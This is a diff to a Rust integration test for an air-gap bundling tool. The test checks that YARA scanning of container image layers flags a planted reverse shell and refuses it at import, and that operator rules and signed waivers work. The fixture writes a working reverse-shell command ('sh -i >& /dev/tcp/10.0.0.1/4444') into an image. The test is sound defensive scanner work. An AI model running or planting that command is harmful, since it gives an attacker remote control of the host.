@@ -1,4 +1,4 @@
-//! Scanning enforced across the gap: `airlock pack` scans models and files and signs the results
+//! Scanning enforced across the gap: `airlock pack` scans images, models and files and signs the results
 //! into the bundle (manifest `scan` records and attestation artifacts whose OCI `subject` is the
 //! scanned artifact); `airlockd import`'s default policy refuses malicious findings and admits a
 //! suspicious one only with a signed waiver naming it.
@@ -40,9 +40,14 @@ fn malicious_findings_are_refused_at_import_and_waivers_admit_suspicious_ones() 
     let scan = i["manifest"]["scan"].as_array().unwrap();
     assert_eq!(
         scan.len(),
-        2,
-        "the model and the file are scanned: {scan:?}"
+        3,
+        "the image, the model and the file are scanned: {scan:?}"
     );
+    // Every record names the scanner and the YARA rule set it ran with.
+    assert!(scan.iter().all(|r| r["scanner"]
+        .as_str()
+        .unwrap()
+        .contains("yara-x 1.22; rules sha256:")));
     assert!(scan
         .iter()
         .all(|r| r["findings"].as_array().unwrap().is_empty()));
@@ -52,8 +57,8 @@ fn malicious_findings_are_refused_at_import_and_waivers_admit_suspicious_ones() 
         .iter()
         .map(|a| a["kind"].as_str().unwrap())
         .collect();
-    assert_eq!(kinds.iter().filter(|k| **k == "attestation").count(), 2);
-    // The attestation's subject is the scanned model manifest.
+    assert_eq!(kinds.iter().filter(|k| **k == "attestation").count(), 3);
+    // The attestation's subject is the scanned manifest.
     let att = scan[0]["attestation"]
         .as_str()
         .unwrap()
@@ -178,4 +183,162 @@ YAML"#)
         .filter(|e| e["kind"] == "policy-decision" && e["data"]["allow"] == true)
         .count();
     assert_eq!(allowed, 2);
+}
+
+/// Container image layers are unpacked as a stream and every file in them is scanned: a
+/// reverse shell in an image (made by umoci, whose layers end without tar padding) is signed
+/// into the bundle as a malicious finding and refused at import. Operator rules (`--rules`)
+/// run beside the built-in ones, and a finding of a rule marked suspicious is admitted with a
+/// signed waiver.
+#[test]
+fn image_layers_and_operator_rules() {
+    let f = Fixture::new();
+    airlockd(&f, &["init", "--data", "data", "--trust", "root.json"]).ok();
+    f.sh(r#"
+mkdir -p src/evil/opt rules
+printf '#!/bin/sh\nsh -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' > src/evil/opt/start.sh
+umoci init --layout layouts/evil
+umoci new --image layouts/evil:v1
+umoci insert --image layouts/evil:v1 src/evil/opt /opt >/dev/null
+umoci config --image layouts/evil:v1 --architecture amd64 --os linux >/dev/null
+cat > e.yaml <<'YAML'
+apiVersion: airlock/v1
+kind: Bundle
+metadata: {name: evil, version: "1.0.0", channel: stable}
+spec:
+  images:
+    - ref: oci:./layouts/evil:v1
+      name: registry.example/acme/evil:v1
+YAML
+"#)
+        .ok();
+    let bad = f
+        .airlock(&[
+            "--json",
+            "pack",
+            "e.yaml",
+            "--key",
+            "keys/signer.key",
+            "--out",
+            "bad",
+            "--sequence",
+            "1",
+        ])
+        .ok()
+        .json();
+    let vol = bad["volumes"][0]["path"].as_str().unwrap().to_string();
+    let i = f.airlock(&["--json", "inspect", &vol]).ok().json();
+    let rec = &i["manifest"]["scan"][0];
+    assert_eq!(rec["artifact"], "registry.example/acme/evil:v1");
+    let found = &rec["findings"][0];
+    assert_eq!(found["rule"], "yara/builtin/reverse_shell", "{rec}");
+    assert_eq!(found["member"], "opt/start.sh");
+    assert!(found["file"]
+        .as_str()
+        .unwrap()
+        .starts_with("registry.example/acme/evil:v1 layer sha256:"));
+    let r = airlockd(&f, &["--json", "import", "--data", "data", &vol]).fails();
+    let reason = r.json()["volumes"][0]["reason"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        reason.contains(
+            "malicious finding yara/builtin/reverse_shell in registry.example/acme/evil:v1"
+        ),
+        "{reason}"
+    );
+
+    // Operator rules: a suspicious marker in the (otherwise clean) hello image.
+    f.sh(r#"cat > rules/corp.yar <<'YAR'
+rule corp_marker
+{
+    meta:
+        severity = "suspicious"
+        description = "text marked for internal use only"
+    strings:
+        $m = "hello from airlock"
+    condition:
+        $m
+}
+YAR"#)
+        .ok();
+    let p = f
+        .airlock(&[
+            "--json",
+            "pack",
+            "m.yaml",
+            "--key",
+            "keys/signer.key",
+            "--out",
+            "marked",
+            "--sequence",
+            "2",
+            "--rules",
+            "rules",
+        ])
+        .ok()
+        .json();
+    let vol = p["volumes"][0]["path"].as_str().unwrap().to_string();
+    let r = airlockd(&f, &["--json", "import", "--data", "data", &vol]).fails();
+    let reason = r.json()["volumes"][0]["reason"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        reason.contains("yara/corp/corp_marker in registry.example/acme/hello:v1"),
+        "{reason}"
+    );
+    assert!(reason.contains("has no waiver"), "{reason}");
+    // A rule file that does not compile stops the pack before any work, naming the file.
+    f.sh("echo 'rule broken { condition: $x }' > rules/broken.yar")
+        .ok();
+    let r = f
+        .airlock(&[
+            "pack",
+            "m.yaml",
+            "--key",
+            "keys/signer.key",
+            "--out",
+            "never",
+            "--rules",
+            "rules",
+        ])
+        .fails();
+    assert!(r.stderr.contains("broken.yar"), "{}", r.stderr);
+    assert!(!f.path().join("never").exists());
+    f.sh("rm rules/broken.yar").ok();
+    f.sh(r#"cat >> m.yaml <<'YAML'
+  waivers:
+    - artifact: registry.example/acme/hello:v1
+      finding: yara/corp/corp_marker
+      reason: the greeting is public, ticket 77
+YAML"#)
+        .ok();
+    let p = f
+        .airlock(&[
+            "--json",
+            "pack",
+            "m.yaml",
+            "--key",
+            "keys/signer.key",
+            "--out",
+            "waived",
+            "--sequence",
+            "3",
+            "--rules",
+            "rules",
+        ])
+        .ok()
+        .json();
+    airlockd(
+        &f,
+        &[
+            "import",
+            "--data",
+            "data",
+            p["volumes"][0]["path"].as_str().unwrap(),
+        ],
+    )
+    .ok();
 }
